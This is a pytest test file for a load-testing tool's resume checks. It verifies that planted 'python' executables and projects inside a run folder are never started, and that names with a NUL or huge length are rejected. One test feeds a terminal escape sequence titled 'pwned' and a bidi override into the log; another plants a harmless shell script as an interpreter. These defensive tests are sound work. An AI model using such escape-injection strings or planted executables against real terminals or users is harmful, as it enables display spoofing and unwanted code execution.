    folder = create(tmp_path, msgspec.structs.replace(begun(offered), engine=engine))
    _, of = command._go_on(
        offered, folder, read(folder, SERVERS).run, (), None, lambda *_: ((), None)
    )
    assert of.engine is None


CATALOGUE: Any = {"aiohttp": SimpleNamespace(requires=("httpx", "aiohttp"))}


@pytest.mark.parametrize("place", ["bin", ".clients/ours/bin"])
def test_no_python_of_a_folder_is_started(
    place: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / place).mkdir(parents=True)
    (tmp_path / place / "python").symlink_to(sys.executable)
    (tmp_path / place).with_name("ready").touch()
    monkeypatch.chdir(tmp_path)
    of = clients_run(clients_plan([row()]))
    path = str(tmp_path / place / "python")
    theirs = msgspec.structs.replace(of.interpreters["3.11"], path=path)
    of = msgspec.structs.replace(of, interpreters={"3.11": theirs})

    def look(python: str, names: object) -> None:
        raise AssertionError(f"{python} was started")

    monkeypatch.setattr(interpreters, "look", look)
    with pytest.raises(UserError, match="python is no Python of here"):
        clients_resume.check(of, CATALOGUE, of.machine)


def test_this_python_is_looked_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    of = clients_run(clients_plan([row()]))
    ours = msgspec.structs.replace(of.interpreters["3.11"], path=sys.executable)
    of = msgspec.structs.replace(of, interpreters={str(at): ours for at in range(1_000)})
    looked: list[tuple[str, list[str]]] = []

    def look(python: str, names: Sequence[str]) -> Interpreter:
        looked.append((python, [*names]))
        return ours

    monkeypatch.setattr(interpreters, "look", look)
    clients_resume.check(of, CATALOGUE, of.machine)
    assert looked == [(sys.executable, ["aiohttp", "httpx"])]


@pytest.mark.parametrize("name", ["a\0b", "x" * 200_000])
def test_no_name_of_a_folder_is_typed(name: str) -> None:
    """A command line ends at a NUL, and has an end."""
    of = clients_run(clients_plan([row()]))
    theirs = msgspec.structs.replace(
        of.interpreters["3.11"], path=sys.executable, versions={name: "1"}
    )
    of = msgspec.structs.replace(of, interpreters={"3.11": theirs})
    with pytest.raises(UserError, match="1 then, missing now"):
        clients_resume.check(of, CATALOGUE, of.machine)


def test_what_was_failed_is_an_outcome(folder: Path) -> None:
    """Text of a log may hold anything: it is kept, and made safe where it is shown."""
    kept = outcome(status="failed", reason="\x1b]0;pwned\x07", detail="\0\n\u202e")
    append(folder, msgspec.json.encode(kept))
    (read_back,) = read(folder, SERVERS).outcomes
    assert isinstance(read_back, Outcome)
    assert read_back == kept


PROJECT = """
format = 1
[project]
python = "./mine"
settings = "mine"
[database]
kind = "none"
[[endpoint]]
name = "home"
path = "/"
"""


@pytest.mark.parametrize("inside", ["", "logs"])
def test_a_project_that_lies_in_a_run_is_not_run(
    inside: str, folder: Path, type_: Type, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = folder / inside
    (project / "loadtest.toml").write_text(PROJECT)
    (project / "mine").write_text("#!/bin/sh\necho > ran\n")
    (project / "mine").chmod(0o755)
    monkeypatch.chdir(project)
    done = type_("run", "--resume", folder)
    assert (done.status, len(done.lines)) == (2, 1)
    assert "lies in the folder of the run, and nothing of that is run" in done.err
    assert not (project / "ran").exists()
